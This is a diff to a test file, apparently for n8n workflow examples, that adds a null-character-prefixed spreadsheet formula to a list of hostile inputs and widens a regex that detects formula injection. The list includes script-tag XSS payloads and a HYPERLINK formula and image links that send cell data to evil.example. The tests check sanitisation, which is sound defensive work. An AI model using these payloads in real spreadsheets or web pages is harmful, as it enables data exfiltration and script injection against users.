@@ -66,6 +66,7 @@ test('the example form-to-participant waits up to 15 minutes for a visitor to se
 const HOSTILE = {
 	script: '<script>alert(1)</script><img src=x onerror="alert(1)">',
 	formula: '=HYPERLINK("http://evil.example/?q="&A1)',
+	'a formula after a null character': '\0=1+1',
 	'formulas after text': 'Ida;=1+1\t@SUM(A1)\r\n-2+3\n+4',
 	'a formula after a tab': '\t=1+1',
 	image: '![winners](https://evil.example/?q=Ida) [look](http://evil.example/x) evil.example/x',
@@ -141,7 +142,8 @@ const record = (text: string): n8n.IDataObject => ({
 });
 
 describe('a spreadsheet cell made by an example', () => {
-	const FORMULA = /(^|[;\t\r\n])[=+\-@]/;
+	// A spreadsheet may drop a leading null character.
+	const FORMULA = /(^\0*|[;\t\r\n])[=+\-@]/;
 
 	test.each<[string, string]>([
 		...['Invoice', 'Charge', 'Wallet'].map((what): [string, string] => [
